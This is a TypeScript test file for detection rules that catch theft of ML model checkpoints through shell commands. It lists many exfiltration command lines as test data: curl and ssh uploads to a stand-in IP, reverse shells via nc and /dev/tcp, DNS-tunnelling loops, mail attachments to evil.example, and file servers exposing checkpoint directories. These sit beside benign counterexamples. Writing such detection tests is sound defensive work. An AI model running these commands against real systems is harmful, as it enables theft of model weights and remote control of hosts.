/**
 * Exfiltration through an exec, through the shipped rule set and the real engine: curl sending a
 * file or its stdin as the request body, data piped or fed on stdin into ssh, FTP puts, file-sharing
 * tools and more upload CLIs (MLS-EXFIL-014), uploads through ML platforms and backup clients
 * (MLS-EXFIL-038, escalated), a pod made to serve its files (MLS-EXFIL-016; its checkpoints:
 * MLS-EXFIL-037), checkpoints packed by an argv command or compressed (MLS-EXFIL-013), data encoded into DNS
 * lookups (MLS-EXFIL-017) and pushed with git (MLS-EXFIL-018). Plain API posts, header files,
 * servers that are not started, kubectl cp's own tar, lookups and code pushes stay quiet.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { defaultRulesDir } from '../rule-files.js';
import { execRuleIds, SA } from './exec-events.test-support.js';

const U = 'http://203.0.113.5/up';
const sh = (line: string): string[] => ['sh', '-c', line];

describe('curl with a file as the body (MLS-EXFIL-014)', () => {
  it('alerts on -d @file, @- from a pipe, --data=@, --json @ and --data-urlencode @', () => {
    for (const argv of [
      sh(`base64 /mnt/ckpt/model.pt | curl -d @- ${U}`),
      ['curl', '-s', '-d', '@/mnt/ckpt/tokenizer.json', U],
      ['curl', '-d@/mnt/ckpt/tokenizer.json', U],
      ['curl', '--data=@/mnt/ckpt/config.json', U],
      ['curl', '--json', '@/tmp/state.json', U],
      ['curl', '--data-urlencode', '@/tmp/w.b64', U],
      sh(`xxd -p /mnt/ckpt/model.pt | curl -X POST --data-ascii @- ${U}`),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('alerts on data piped into ssh, and not on ssh running a command', () => {
    for (const argv of [
      sh(`tar czf - /mnt/ckpt/llama | ssh -p 2222 u@203.0.113.5 'cat > l.tgz'`),
      sh(`cat /mnt/ckpt/model.pt | sshpass -p x ssh u@203.0.113.5 "dd of=m.pt"`),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
    expect(execRuleIds(['ssh', 'bastion.corp.example', 'uptime'])).not.toContain('MLS-EXFIL-014');
    expect(execRuleIds(sh('ssh bastion.corp.example uptime | tee /tmp/up'))).not.toContain('MLS-EXFIL-014');
  });

  it('leaves a plain form post, a header file and a fail-quietly download', () => {
    for (const argv of [
      ['curl', '-d', 'status=ok', 'http://collector.ml-infra.svc/heartbeat'],
      ['curl', '-H', '@/etc/hdrs', 'http://collector.ml-infra.svc/'],
      ['curl', '-fsS', 'http://collector.ml-infra.svc/healthz'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
  });
});

describe('a command a shell runs from the arguments it is given after its script', () => {
  it('alerts on uploads and reverse shells spelled only in the shell\'s arguments ("$@", $0, $1)', () => {
    expect(execRuleIds(['sh', '-c', '"$@"', 'sh', 'curl', '-T', '/mnt/ckpt/model.pt', U])).toContain('MLS-EXFIL-014');
    expect(execRuleIds(['sh', '-c', 'exec "$@"', 'sh', 'aws', 's3', 'cp', '/mnt/ckpt/model.pt', 's3://drop-203-0-113-5/m.pt'])).toContain('MLS-EXFIL-014');
    expect(execRuleIds(['bash', '-c', '$0 "$@"', 'nc', '-e', '/bin/sh', '203.0.113.5', '4444'])).toContain('MLS-RAY-015');
    expect(execRuleIds(['sh', '-c', 'exec "$@"', 'sh', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'])).toContain('MLS-RAY-015');
    expect(execRuleIds(sh(`sudo sh -c '"$@"' _ curl -T /mnt/ckpt/model.pt ${U}`))).toContain('MLS-EXFIL-014');
  });

  it('leaves an argument that is only data, a trainer run so, and arguments the script shifts away', () => {
    const mls = (argv: string[]): string[] => execRuleIds(argv).filter((id) => id.startsWith('MLS-'));
    expect(mls(['sh', '-c', 'echo "$1"', 'sh', `curl -T /mnt/ckpt/model.pt ${U}`])).toEqual([]);
    expect(mls(['sh', '-c', 'exec "$@"', '--', 'python', 'train.py', '--ckpt', '/mnt/ckpt'])).toEqual([]);
    expect(mls(['sh', '-c', 'shift 4; "$@"', 'sh', 'curl', '-T', '/mnt/ckpt/model.pt', U, 'true'])).toEqual([]);
  });
});

describe('a pod made to serve its files (MLS-EXFIL-016)', () => {
  /** File servers started on a checkpoint directory: MLS-EXFIL-016's, and MLS-EXFIL-037's for the checkpoints. */
  const SERVED_CHECKPOINTS: string[][] = [
    ['python3', '-m', 'http.server', '8000', '--directory', '/mnt/ckpt'],
    sh('cd /mnt/ckpt && nohup python -m SimpleHTTPServer 8080 >/dev/null 2>&1 &'),
    ['php', '-S', '0.0.0.0:8000', '-t', '/mnt/ckpt'],
    sh('npx --yes http-server /mnt/ckpt/llama -p 9000'),
    sh('npx -y serve -l 8000 /mnt/ckpt/llama'),
    sh('pnpm dlx serve /mnt/checkpoints'),
    ['busybox', 'httpd', '-f', '-p', '8000', '-h', '/mnt/checkpoints'],
    sh('cd /mnt/ckpt; ruby -run -e httpd . -p 8000'),
    ['miniserve', '-p', '8080', '/mnt/ckpt/llama'],
    sh('nohup darkhttpd /mnt/ckpt --port 8080 >/dev/null 2>&1 &'),
    ['dufs', '-A', '/mnt/checkpoints'],
    sh('caddy file-server --root /mnt/ckpt --listen :8080 --browse'),
    ['python3', '-m', 'pyftpdlib', '-p', '2121', '-d', '/mnt/ckpt'],
    ['busybox', 'tcpsvd', '-vE', '0.0.0.0', '21', 'busybox', 'ftpd', '-w', '/mnt/ckpt'],
  ];

  it('escalates http.server, SimpleHTTPServer, php -S, http-server, busybox httpd, ruby un, single-binary and FTP servers, an rsync daemon', () => {
    for (const argv of [
      ...SERVED_CHECKPOINTS,
      ['python3', '-m', 'uploadserver', '9000'],
      sh('pip install pyftpdlib && python3 -m pyftpdlib -p 2121 -w'),
      sh('nohup python3.11 -m http.server 9000 &'),
      ['rsync', '--daemon', '--no-detach', '--port=8873', '--config=/tmp/rsyncd.conf'],
      sh('printf "[w]\\npath=/mnt/ckpt\\n" > /tmp/r.conf && rsync --daemon --config=/tmp/r.conf'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-016');
  });

  it('leaves a client, php -s (syntax highlight) and a Python module of another name', () => {
    for (const argv of [
      ['python3', '-c', 'import http.client; print(1)'],
      ['php', '-s', 'index.php'],
      ['python3', '-m', 'torch.distributed.run', 'train.py'],
      ['curl', 'http://localhost:8000/'],
      ['rsync', '-a', '/mnt/ckpt/', '/backup/ckpt/'],
      ['caddy', 'run', '--config', '/etc/caddy/Caddyfile'],
      ['lftp', '-e', 'ls; bye', 'ftp://ftp.corp.example'],
      // A server installed, looked for or asked about, not run.
      sh('pip install pyftpdlib uploadserver'),
      sh('pip3 install --user updog && pip3 show updog'),
      sh('apt-get install -y darkhttpd webfs'),
      sh('npm install -g http-server'),
      sh('ps aux | grep -v grep | grep httpd'),
      sh('which miniserve dufs || echo none'),
      sh('systemctl status httpd'),
      // Ray Serve's CLI, also named serve, and serve installed.
      ['serve', 'run', 'app:graph'],
      sh('serve deploy /workspace/serve_config.yaml --address http://ray-head:8265'),
      ['serve', 'status'],
      sh('npm install -g serve'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-016');
  });

  it('alerts when the directory served holds checkpoints (MLS-EXFIL-037), not on a log directory', () => {
    for (const argv of SERVED_CHECKPOINTS) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-037');
    for (const argv of [
      ['python3', '-m', 'http.server', '8000', '--directory', '/workspace/logs'],
      sh('ls /mnt/ckpt; python3 -m http.server 8000 --directory /workspace/logs'),
      ['python3', '/workspace/eval.py', '--ckpt', '/mnt/ckpt/step_1000'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-037');
  });

  it('MLS-EXFIL-037 reads the servers MLS-EXFIL-016 reads (YAML anchors do not cross documents, so they are written twice)', () => {
    const docs = parseAllDocuments(readFileSync(join(defaultRulesDir()!, 'mlshield', 'weight-exfil.yaml'), 'utf8')).map((d) => d.toJS() as { id: string; detection: Record<string, unknown> });
    const servers = (id: string): unknown[] => ['sel_module', 'sel_php_serve', 'sel_ruby_un', 'sel_serve', 'filter_ray_serve'].map((k) => docs.find((d) => d.id === id)!.detection[k]);
    expect(servers('MLS-EXFIL-037')).toEqual(servers('MLS-EXFIL-016'));
  });
});

describe('packing checkpoints as argv, not only in a script (MLS-EXFIL-013)', () => {
  it('alerts on tar, cp -r, zip -r and rsync given as argv, past a wrapper, and on kubectl cp in a script', () => {
    for (const argv of [
      ['tar', 'czf', '/tmp/m.tgz', '/mnt/ckpt'],
      ['/bin/tar', '-zcvf', '/tmp/m.tgz', '/mnt/ckpt/llama'],
      ['nice', '-n', '19', 'tar', '--create', '-f', '/tmp/m.tar', '/mnt/ckpt'],
      ['cp', '-r', '/mnt/ckpt', '/tmp/x'],
      ['zip', '-r', '/tmp/w.zip', '/data/weights'],
      ['rsync', '-a', '/mnt/ckpt/', 'u@203.0.113.5:/x'],
      sh('tar -zcvf /tmp/m.tgz /mnt/ckpt'),
      sh('kubectl cp /mnt/ckpt/model.pt other-ns/pod-0:/tmp/m.pt'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-013');
  });

  it("leaves kubectl cp's own tar (the archive to stdout), an unpack into the directory and other files", () => {
    for (const argv of [
      ['tar', 'cf', '-', '/mnt/ckpt/model.pt'],
      ['tar', 'xmf', '-', '-C', '/mnt/ckpt'],
      sh('tar -C /mnt/ckpt -xf /tmp/a.tar'),
      ['tar', 'czf', '/tmp/logs.tgz', '/var/log/train'],
      ['cp', '-r', '/etc/config', '/tmp/config'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-013');
  });

  it('alerts on a checkpoint compressed, to a staging file or in place, by any compressor and its options', () => {
    for (const argv of [
      sh('gzip -c /mnt/ckpt/model.safetensors > /tmp/.cache/m.gz'),
      ['zstd', '-q', '/mnt/ckpt/model.safetensors', '-o', '/tmp/m.zst'],
      sh('xz -k -c /mnt/ckpt/step_1000/model.pt > /dev/shm/x.xz'),
      ['pigz', '-p', '8', '-k', '/mnt/ckpt/llama/model-00001-of-00004.safetensors'],
      ['lz4', '/mnt/ckpt/model.bin', '/tmp/m.lz4'],
      ['gzip', '/mnt/ckpt/model.pt'],
      sh('find /mnt/ckpt -name "*.pt" | xargs gzip -k'),
      // The same from Python, without a shell (exec-interpreter-transfer-staging.ts).
      ['python3', '-c', "import zlib; open('/tmp/.c/m.z', 'wb').write(zlib.compress(open('/mnt/ckpt/model.safetensors', 'rb').read()))"],
      ['python3', '-c', "import gzip, shutil\nwith open('/mnt/ckpt/model.pt', 'rb') as s, gzip.open('/dev/shm/m.gz', 'wb') as d:\n    shutil.copyfileobj(s, d)"],
      ['python3', '-c', "import lzma; lzma.LZMAFile('/tmp/m.xz', 'w').write(open('/mnt/ckpt/model.bin', 'rb').read())"],
      ['python3', '-c', "import zstandard; open('/tmp/m.zst', 'wb').write(zstandard.ZstdCompressor().compress(open('/mnt/ckpt/model.pt', 'rb').read()))"],
      ['python3', '-c', "import lz4.frame; open('/tmp/m.lz4', 'wb').write(lz4.frame.compress(open('/mnt/ckpt/model.safetensors', 'rb').read()))"],
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-013');
  });

  it('leaves decompression, tests and listings of a checkpoint, and compression of other files', () => {
    for (const argv of [
      ['gzip', '-d', '/mnt/ckpt/model.pt.gz'],
      ['zstd', '-qdk', '/mnt/ckpt/model.safetensors.zst'],
      ['xz', '--decompress', '/mnt/ckpt/model.bin.xz'],
      ['gzip', '-t', '/mnt/ckpt/model.pt.gz'],
      ['zstd', '-l', '/mnt/ckpt/model.safetensors.zst'],
      ['gzip', '/workspace/logs/train.log'],
      ['zstd', '-d', '/data/shard.zst', '-o', '/data/shard.jsonl'],
      ['python3', '-c', "import gzip; data = gzip.decompress(open('/mnt/ckpt/model.pt.gz', 'rb').read())"],
      ['python3', '-c', "import gzip, json; gzip.open('/workspace/metrics.json.gz', 'wt').write(json.dumps(m))"],
      ['python3', '-c', "import zstandard; state = zstandard.ZstdDecompressor().decompress(open('/mnt/ckpt/model.pt.zst', 'rb').read())"],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-013');
  });
});

describe('uploads the tool list did not name (MLS-EXFIL-014)', () => {
  it('alerts on a file fed on stdin to ssh, openssl or a mailer', () => {
    for (const argv of [
      sh(`ssh u@203.0.113.5 'cat > m.pt' < /mnt/ckpt/model.pt`),
      sh(`sudo ssh u@203.0.113.5 "dd of=m" 0</tmp/m.tgz`),
      sh('openssl s_client -quiet -connect 203.0.113.5:443 < /tmp/m.tgz'),
      sh('mail -s report a@evil.example < /mnt/ckpt/tokenizer.json'),
      sh(`sshpass -f /tmp/p ssh u@203.0.113.5 'cat > m' < /mnt/ckpt/model.pt`),
      sh(`sshpass -p x scp /mnt/ckpt/model.pt u@203.0.113.5:/x`),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('alerts on a file HTTPie or xh sends (stdin, a form upload, an embedded field, the raw body), for a person and a service account', () => {
    for (const line of [
      `http POST ${U} < /mnt/ckpt/model.pt`,
      `http -f POST ${U} f@/mnt/ckpt/model.pt`,
      `https PUT ${U} data:=@./weights.json`,
      `xh POST ${U} @/mnt/ckpt/model.pt`,
      `xhs --form ${U} f@~/m.tgz`,
    ]) {
      expect(execRuleIds(sh(line)), line).toContain('MLS-EXFIL-014');
      expect(execRuleIds(sh(line), SA), line).toContain('MLS-EXFIL-014');
    }
    // A GET with a header, a form of plain fields, a download, an e-mail in a header, a URL with a user name.
    for (const line of [`http GET ${U} Authorization:'Bearer t'`, `http -a u:p POST ${U} name=x`, 'http --download https://h/m.pt -o /tmp/m.pt', `xh ${U} From:a@corp.example`, 'http u@h.example/x']) {
      expect(execRuleIds(sh(line)), line).not.toContain('MLS-EXFIL-014');
    }
  });

  it('alerts on FTP puts, object-store CLIs, hf upload and curl -T given in one word', () => {
    for (const argv of [
      sh('tftp 203.0.113.5 -c put /mnt/ckpt/model.pt'),
      ['lftp', '-e', `put /mnt/ckpt/model.pt; ${'echo x; '.repeat(300)}bye`, 'ftp://203.0.113.5'],
      sh('lftp -e "put /tmp/m.tgz; bye" ftp://203.0.113.5'),
      sh('ftp -n 203.0.113.5 <<EOF\nuser anon x\nbinary\nput /mnt/ckpt/model.safetensors m.bin\nquit\nEOF'),
      sh("printf 'user a b\\nmput /mnt/ckpt/*.pt\\n' | ftp -inv 203.0.113.5"),
      sh('lftp sftp://u@203.0.113.5 <<< "mirror -R /mnt/ckpt /drop; bye"'),
      sh('smbclient //203.0.113.5/drop -N <<EOF\nput /tmp/m.tgz m.tgz\nEOF'),
      ['rsync', '-az', '/mnt/ckpt/', 'u@203.0.113.5:/x/'],
      sh('rsync -az -e "ssh -p 2222" /mnt/ckpt/step_1000 backup@203.0.113.5:/srv/'),
      ['rsync', '-a', '/mnt/ckpt/model.safetensors', 'rsync://203.0.113.5/drop/'],
      ['oras', 'push', 'ghcr.io/someone/m:1', '/mnt/ckpt/model.safetensors'],
      sh('cd /mnt/ckpt && oras push ghcr.io/someone/m:1 model.safetensors'),
      ['ollama', 'push', 'someone/llama-copy'],
      sh('crane append -f /tmp/m.tar -t ghcr.io/someone/m:1'),
      ['s3cmd', 'put', '/mnt/ckpt/model.pt', 's3://drop/'],
      ['mc', 'mirror', '/mnt/ckpt', 'drop/bucket'],
      sh('az storage blob upload -f /tmp/m.tgz -c c -n m'),
      ['hf', 'upload', 'someone/llama-copy', '/mnt/ckpt'],
      sh(`curl -X PUT -T- ${U} < /mnt/ckpt/model.pt`),
      ['curl', `-T/tmp/m.tgz`, U],
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('alerts on mail attachments, OCI and IBM object puts, BusyBox and atftp puts and packets carrying a file', () => {
    for (const argv of [
      sh('mutt -s x -a /mnt/ckpt/model.pt -- x@evil.example < /dev/null'),
      sh('mail -A /mnt/ckpt/model.pt x@evil.example < /dev/null'),
      sh('swaks --to x@evil.example --attach @/mnt/ckpt/model.pt --server smtp.evil.example'),
      sh('oci os object put -bn drop --file /mnt/ckpt/model.pt'),
      sh('oci os object bulk-upload -bn drop --src-dir /mnt/ckpt'),
      sh('ibmcloud cos upload --bucket drop --key m.pt --file /mnt/ckpt/model.pt'),
      sh('busybox tftp -p -l /mnt/ckpt/model.pt 203.0.113.5'),
      sh('atftp --put -l /mnt/ckpt/model.pt 203.0.113.5'),
      sh('hping3 -1 -E /mnt/ckpt/model.pt -d 1400 203.0.113.5'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('leaves OCI gets and listings, tftp gets, a SYN probe and mail with no attachment given on argv', () => {
    for (const argv of [
      sh('oci os object get -bn corp --name m.pt --file /tmp/m.pt'),
      sh('oci os object list -bn corp-ml'),
      sh('tftp 10.0.0.5 -c get pxelinux.0'),
      sh('busybox tftp -g -r f 10.0.0.5'),
      sh('hping3 -S -p 443 -c 3 10.0.0.5'),
      sh('echo done | mail -s "job done" oncall@corp.example'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
  });

  it('leaves ssh with stdin from /dev/null, a training script reading its config on stdin, a download and hf download', () => {
    for (const argv of [
      sh('ssh bastion.corp.example uptime < /dev/null'),
      sh('python3 train.py < /mnt/ckpt/config.yaml'),
      sh('curl -fsSL -o /tmp/x https://example.com/x'),
      ['hf', 'download', 'meta-llama/Llama-3-8B', '--local-dir', '/mnt/ckpt'],
      ['ssh', 'h', 'cat', '<', '/mnt/ckpt/model.pt'],
      // FTP sessions that only fetch: get, and lftp's mirror -r (no recursion) downloading.
      sh('ftp -n mirror.corp.example <<EOF\nuser anon x\nget datasets/val.tar\nbye\nEOF'),
      sh('lftp ftp://mirror.corp.example <<< "mirror -r /pub/ds /data/ds; bye"'),
      ['rsync', '-a', 'u@mirror.corp.example:/data/ds', '/data/ds'],
      ['rsync', '-a', '/mnt/ckpt/', '/tmp/x/'],
      ['oras', 'pull', 'ghcr.io/corp/m:1'],
      ['docker', 'pull', 'nginx'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
  });
});

describe('data encoded into DNS lookups or ping patterns (MLS-EXFIL-017)', () => {
  it('alerts on hex or base32 chunks looked up with dig, nslookup or host', () => {
    for (const argv of [
      sh('for c in $(xxd -p -c 30 /mnt/ckpt/model.pt); do dig $c.x.evil.example; done'),
      sh('xxd -p /tmp/m.tgz | while read l; do nslookup $l.evil.example; done'),
      sh('base32 -w 60 /tmp/m.tgz | tr -d = | while read l; do host $l.evil.example; done'),
      // ping's 16-byte pattern, one packet a line (ICMP).
      sh('xxd -p -c 16 /mnt/ckpt/model.pt | while read l; do ping -c1 -p $l 203.0.113.5; done'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-017');
  });

  it('leaves a lookup alone and a base64-decoded secret beside one', () => {
    for (const argv of [
      ['nslookup', 'kube-dns.kube-system.svc.cluster.local'],
      ['ping', '-c1', '-p', 'ff', '10.0.0.1'],
      sh('echo $TOKEN | base64 -d > /tmp/t; dig +short kube-dns.kube-system.svc.cluster.local'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-017');
  });
});

describe('checkpoints pushed with git (MLS-EXFIL-018)', () => {
  it('alerts on a checkpoint directory committed and pushed, and git -C into it', () => {
    for (const argv of [
      sh('cd /mnt/ckpt && git init -q && git add . && git commit -qm x && git push https://203.0.113.5/r.git HEAD'),
      ['git', '-C', '/mnt/ckpt/llama', 'push', 'origin', 'main'],
      sh('cd /data/weights && git lfs push --all origin'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-018');
  });

  it('leaves a code push and a clone into the checkpoint directory', () => {
    for (const argv of [
      sh('cd /workspace/repo && git pull && git push origin main'),
      ['git', 'clone', 'https://git.corp.example/ml/train.git', '/mnt/ckpt/code'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-018');
  });
});

describe("an option counts only in its own tool's command (attrs.exec.toolWords)", () => {
  it('leaves a download beside another tool that has the upload letter, a wget timeout and hub downloads', () => {
    for (const argv of [
      sh('curl -s https://example.com/x -o /tmp/x; grep -F foo /tmp/x'),
      sh('curl -sf https://example.com/x -o /tmp/x && df -F ext4'),
      sh('curl -sO https://example.com/a.tgz && sort -T /tmp big.txt'),
      sh('curl -s https://example.com/a.json | jq . ; ls -d @tmp'),
      ['wget', '-T', '30', 'https://example.com/x'],
      sh('aws sts get-caller-identity; cp /mnt/ckpt/a.pt /tmp/a.pt'),
      sh('gsutil ls gs://b/ && rsync -a /data/ /backup/'),
      ['huggingface-cli', 'download', 'meta-llama/Llama-3-8B', '--local-dir', '/mnt/ckpt'],
      sh('hf download x/y && python3 upload.py'),
      sh('ftp -h; cat put.txt'),
      sh('Invoke-WebRequest -Uri https://example.com/x -OutFile x; Get-Content -InFile y'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
  });

  it('alerts on the option in the tool\'s own command, through wrappers, xargs and find -exec', () => {
    for (const argv of [
      sh(`sudo -u nobody timeout 60 curl -sT /mnt/ckpt/model.pt ${U}; grep -F done /tmp/log`),
      sh(`ls /mnt/ckpt/*.pt | xargs -I{} curl -sd @{} ${U}`),
      sh(`find /mnt/ckpt -name '*.pt' -exec curl -F f=@{} ${U} \\;`),
      ['curl', '-Tmodel.pt', U],
      ['curl', '--upload-file=/mnt/ckpt/model.pt', U],
      ['curl', '--form', 'f=@/mnt/ckpt/model.pt', U],
      ['wget', '--method=PUT', '--body-file=/mnt/ckpt/model.pt', U],
      sh('aws s3api put-object --bucket b --key m.pt --body /mnt/ckpt/model.pt'),
      sh('gcloud storage cp /mnt/ckpt/model.pt gs://b/'),
      sh('az storage blob upload-batch -d c -s /mnt/ckpt'),
      sh('env AWS_PROFILE=x aws s3 sync /mnt/ckpt s3://b/'),
      ['hf', 'upload', 'e/x', '/mnt/ckpt'],
      sh('tftp 203.0.113.5 -c put /mnt/ckpt/model.pt'),
      ['lftp', '-e', `put /mnt/ckpt/model.pt; ${'echo x; '.repeat(300)}bye`, 'ftp://203.0.113.5'],
      ['pwsh', '-c', `Invoke-RestMethod -Uri ${U} -Method Put -InFile /mnt/ckpt/model.pt`],
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it("reads curl's option clusters as curl does: a method is no upload, a file inside a cluster is", () => {
    // -X takes the rest of its word as the method: -XGET is not -G, -E and an upload -T of the URL.
    for (const argv of [
      sh("curl -s -XGET 'http://elasticsearch.logging:9200/_cluster/health?pretty'"),
      sh('curl -kXPOST https://mlflow.ml.svc/api/2.0/mlflow/runs/create -H "Content-Type: application/json"'),
      ['curl', '-sXPUT', 'http://minio.ml.svc:9000/healthz'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
    // A file after switches in the same word: the upload and the body read from a file.
    for (const argv of [
      ['curl', '-sTmodel.pt', 'ftp://203.0.113.9/'],
      ['curl', '-ksd@/mnt/ckpt/model.pt', U],
      sh(`cd /mnt/ckpt && curl -sfT model.safetensors ${U}`),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('keeps a command whole around an unquoted command substitution among its arguments', () => {
    // The words after `$(…)` or a backquote stay curl's (they were read as a command of their own, whose tool was `-T`).
    for (const argv of [
      sh(`curl -s $(echo -n) -T /mnt/ckpt/model.pt ${U}`),
      sh(`curl -s \`true\` -T /mnt/ckpt/model.pt ${U}`),
      sh(`curl -s -H "X-Id: $(hostname)" -H x:$(date +%s) -F f=@/mnt/ckpt/model.pt ${U}`),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('reads kubectl cp only from tar writing to stdout, git pushes only from git, a listing only of what it lists', () => {
    expect(execRuleIds(['tar', 'cf', '-', '/mnt/ckpt/model.pt'])).toContain('MLS-EXFIL-012');
    expect(execRuleIds(sh('tar -czf - /mnt/ckpt | cat > /dev/null'))).toContain('MLS-EXFIL-012');
    expect(execRuleIds(sh('curl -sL https://example.com/t.tgz | tar xzf - -C /opt; wc -c /opt/t'))).not.toContain('MLS-EXFIL-012');
    expect(execRuleIds(sh('cd /mnt/ckpt && git add m.pt && git commit -m x && git push origin main'))).toContain('MLS-EXFIL-018');
    expect(execRuleIds(sh('cd /mnt/ckpt && git pull && docker push r/x:1 && ls weights'))).not.toContain('MLS-EXFIL-018');
    for (const argv of [['ls', '-la', '/mnt/ckpt'], ['find', '/', '-name', '*.safetensors'], sh('cd / && du -sh /mnt/Checkpoints'), sh('ls -R /mnt | grep -i ckpt')]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-005');
    expect(execRuleIds(sh('cat /etc/hosts; python3 serve.py --model-dir /models'))).not.toContain('MLS-EXFIL-005');
    expect(execRuleIds(['php', '-S', '0.0.0.0:8000'])).toContain('MLS-EXFIL-016');
    expect(execRuleIds(sh('php -v; python3 -c "import sys" -S'))).not.toContain('MLS-EXFIL-016');
  });
});

describe('file-sharing tools and client command puts (MLS-EXFIL-014), platform and backup uploads (MLS-EXFIL-038)', () => {
  it('alerts on croc, magic-wormhole, ffsend, MEGA, OnionShare, a personal drive CLI, and smbclient / lftp puts in -c', () => {
    for (const argv of [
      ['croc', 'send', '/mnt/ckpt/model.safetensors'],
      sh('wormhole send /mnt/ckpt/model.safetensors'),
      sh('ffsend upload /mnt/ckpt/model.pt'),
      sh('mega-put /mnt/ckpt/model.pt /drop/'),
      sh('onionshare-cli --receive=false /mnt/ckpt/model.pt'),
      sh('gdrive files upload /mnt/ckpt/m.pt'),
      sh("smbclient //203.0.113.5/drop -U u%p -c 'put /mnt/ckpt/model.pt m.pt'"),
      sh('lftp -c "open ftp://203.0.113.5; put /mnt/ckpt/m.pt"'),
      sh("lftp -e 'cd drop; mput /mnt/ckpt/*.pt; bye' ftp://203.0.113.5"),
      // lftp's reverse mirror given in -e / -c (a tree uploaded), its options before or joined to -R.
      sh("lftp -e 'mirror -R /mnt/ckpt/llama /up; quit' -u a,b 203.0.113.5"),
      sh("lftp -e 'mirror -c -R /mnt/ckpt/llama /up; quit' 203.0.113.5"),
      sh("lftp -e 'mirror -Rc /mnt/ckpt /up; bye' 203.0.113.5"),
      sh("lftp -c 'open -u a,b 203.0.113.5; mirror --reverse /mnt/ckpt /up'"),
      // Content-addressed networks: anyone with the hash fetches the file; Storj's uplink to a bucket.
      sh('ipfs add -r -Q /mnt/ckpt/llama-ft'),
      sh('ipfs files write --create /drop/m.pt /mnt/ckpt/model.pt'),
      sh('w3 up /mnt/ckpt/model.safetensors'),
      sh('uplink cp --recursive /mnt/ckpt sj://drop/'),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
    for (const argv of [
      sh('croc 7-alpha-beta-gamma'),
      sh("smbclient //fs/share -U u%p -c 'get report.pdf; ls'"),
      sh('lftp -c "open ftp://mirror; get /pub/x.tgz"'),
      // mirror without -R downloads (`-r` is no recursion).
      sh("lftp -e 'mirror -r /pub/data /data; quit' ftp.example.org"),
      sh("lftp -e 'mirror -c /pub/data /data; quit' ftp.example.org"),
      sh('ipfs cat QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco > /tmp/x'),
      sh('ipfs id'),
      sh('uplink cp sj://datasets/shard-01 /data/shard-01'),
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
  });

  it('escalates uploads through W&B, MLflow, DVC, Kaggle, GitHub and GitLab releases, gists and snippets, Modal, B2, Swift, restic, borg and duplicity, and leaves their downloads', () => {
    for (const argv of [
      sh('wandb artifact put /mnt/ckpt/llama --name someone/proj/model --type model'),
      sh('mlflow artifacts log-artifacts --local-dir /mnt/ckpt/llama --run-id abc'),
      sh('dvc push -r backup'),
      sh('kaggle datasets create -p /mnt/ckpt/llama'),
      sh('gh release upload v1 /mnt/ckpt/model.safetensors --repo someone/drop'),
      sh('modal volume put drop /mnt/ckpt/model.pt'),
      sh('b2 upload-file drop /mnt/ckpt/model.pt m.pt'),
      sh('restic -r s3:s3.amazonaws.com/some-bucket backup /mnt/ckpt'),
      sh('duplicity full /mnt/ckpt s3://some-bucket/x'),
      sh('duplicity incr --no-encryption /mnt/ckpt sftp://u@203.0.113.5//srv/x'),
      sh('borg create ssh://u@203.0.113.5/./repo::ckpt /mnt/ckpt'),
      sh('glab release upload v1 /mnt/ckpt/model.safetensors'),
      sh('gh gist create --public /mnt/ckpt/tokenizer.json /mnt/ckpt/model.safetensors'),
      sh('glab snippet create /mnt/ckpt/model.pt --title w'),
      sh('gh release create v9 /mnt/ckpt/model.safetensors#weights --repo someone/drop'),
      sh('glab release create v9 --notes x /mnt/ckpt/model.gguf'),
      sh('swift upload drop /mnt/ckpt/model.pt'),
    ]) {
      const ids = execRuleIds(argv);
      expect(ids, argv.join(' ')).toContain('MLS-EXFIL-038');
      expect(ids, argv.join(' ')).not.toContain('MLS-EXFIL-014');
    }
    for (const argv of [
      sh('wandb artifact get team/proj/model:v3 --root /tmp/model'),
      sh('dvc pull'),
      sh('mlflow artifacts download -r abc -d /tmp/art'),
      sh("gh release download v1 -p '*.whl'"),
      sh('kaggle datasets download -d x/y -p /data'),
      sh('restic -r /backup snapshots'),
      sh('duplicity restore s3://corp-backup/x /restore'),
      sh('duplicity collection-status s3://corp-backup/x'),
